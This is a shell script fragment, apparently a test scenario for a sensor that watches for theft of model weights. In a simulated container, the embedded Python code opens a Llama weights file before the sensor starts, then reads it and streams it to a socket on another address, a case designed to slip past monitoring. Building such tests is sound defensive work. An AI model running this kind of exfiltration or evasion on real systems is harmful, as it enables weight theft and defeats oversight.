# V48 (before the sensor starts): a container process opens the weights and holds them, waiting
# (in a pod, a network namespace, of its own)
rm -f "$H/go-v48" "$H/go-v48.ready"
mk_ns pod-v48 vh-pod48 vc-pod48 10.200.8.1 10.200.8.2 >/dev/null 2>&1
ctr_run simctr-infer-v48 pod-v48 --mount --pid --fork --mount-proc -- timeout 900 python3 -c '
import os, socket, sys, time
f = open(sys.argv[1], "rb")                                  # opened before the sensor ran
open(sys.argv[2] + ".ready", "w").close()
while not os.path.exists(sys.argv[2]):
    time.sleep(0.1)
d = f.read(); s = socket.create_connection(("10.200.2.2", 9000)); s.sendall(d); s.close()
print("sent", len(d))' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors" "$H/go-v48" \
  > "$H/v48.log" 2>&1 &
for _ in $(seq 100); do [ -e "$H/go-v48.ready" ] && break; sleep 0.1; done
